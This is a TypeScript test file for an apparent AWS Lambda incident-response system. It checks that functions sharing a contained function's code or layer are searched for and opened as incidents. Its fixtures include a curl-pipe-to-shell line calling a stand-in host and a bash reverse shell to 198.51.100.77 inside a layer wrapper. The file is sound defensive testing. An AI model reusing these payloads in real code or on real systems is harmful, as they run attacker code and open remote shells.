import { randomBytes } from 'node:crypto';
import { PublishLayerVersionCommand } from '@aws-sdk/client-lambda';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { until } from '../../local/until';
import { getIncident, listIncidents } from '../../shared/incident/store';
import type { Searched } from '../../shared/search/search';
import { zipOf } from '../fixtures/zip';
import { enter, incidentOf, makeFunction, report, reservedOf, said, type World, zip } from './world';

const searchedOf = (world: World, id: string) =>
  until('the search of the other functions', 120, async () => {
    const now = await getIncident(world.records, id);
    return now.search === undefined ? null : now;
  });

describe('what a contained function had is searched for in the others', () => {
  let world: World;
  beforeAll(async () => {
    world = await enter();
  });
  const incidentsAbout = async (arn: string) =>
    (await listIncidents(world.records)).filter(({ functionArn }) => functionArn === arn);

  it('gives a function with the same code an incident of its own, contains nothing of it in mode observe, and leaves the others alone', async () => {
    const id = randomBytes(4).toString('hex');
    const code = await zip(
      `// ${id}\nrequire('child_process').exec('curl -s http://pool.badhost.example/x.sh | sh');\nexports.handler = async () => 1;\n`,
    );
    const twin = await makeFunction(world, { name: `twin-${id}`, code });
    const asked = await makeFunction(world, { name: `asked-${id}`, code, mode: 'respond' });
    const unrelated = await makeFunction(world, { name: `unrelated-${id}` });
    const suspect = await makeFunction(world, { name: `suspect-${id}`, code, mode: 'respond' });
    await report(world, suspect);
    const { id: incidentId } = await incidentOf(world, suspect, 'contained');

    const { search, evidence } = await searchedOf(world, incidentId);
    expect(search?.found.map(({ functionName, outcome }) => `${functionName} ${outcome}`)).toEqual([
      `asked-${id} opened`,
      `twin-${id} opened`,
    ]);
    const observed = await incidentOf(world, twin, 'observed');
    expect(Object.values(observed.witnesses)).toMatchObject([
      { rule: 'search-same-code', observer: 'search', description: expect.stringContaining(incidentId) },
    ]);
    expect(await reservedOf(world, twin)).toBeNull();
    // It responds to findings of its own; one of a search asks, as policy has it.
    await incidentOf(world, asked, 'asking');
    expect(await reservedOf(world, asked)).toBeNull();
    expect(await incidentsAbout(unrelated.arn)).toEqual([]);
    expect(await incidentsAbout(suspect.arn)).toHaveLength(1);

    const { Body } = await world.instance.clients.s3.send(
      new GetObjectCommand({
        Bucket: evidence?.bucket,
        Key: evidence?.manifestKey.replace(/manifest\.json$/, 'search.json'),
      }),
    );
    const sealed = JSON.parse((await Body?.transformToString()) ?? '') as Searched;
    expect(sealed.sought.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['code-digest']));
    expect(sealed.gaps.join()).toContain('policy searchCode is false');
    await said(world, incidentId, `twin-${id}`);
  });

  it('finds a suspicious layer in another function, by the version that ran', async () => {
    const id = randomBytes(4).toString('hex');
    const { LayerVersionArn = '' } = await world.instance.clients.lambda.send(
      new PublishLayerVersionCommand({
        LayerName: `observability-${id}`,
        Content: {
          ZipFile: await zipOf({
            'wrapper.sh': '#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.77/9001 0>&1 &\nexec "$@"\n',
          }),
        },
      }),
    );
    const layered = await makeFunction(world, {
      name: `layered-${id}`,
      code: await zip(`exports.handler = async () => '${id}';`),
      layers: [LayerVersionArn],
    });
    const suspect = await makeFunction(world, {
      name: `poisoned-${id}`,
      mode: 'respond',
      layers: [LayerVersionArn],
    });
    await report(world, suspect);
    const { id: incidentId } = await incidentOf(world, suspect, 'contained');

    const { search } = await searchedOf(world, incidentId);
    expect(search?.found).toMatchObject([
      { functionName: `layered-${id}`, confidence: 'strong', outcome: 'opened' },
    ]);
    const { witnesses } = await incidentOf(world, layered, 'observed');
    expect(Object.values(witnesses)).toMatchObject([{ rule: 'search-same-layer' }]);
  });
});
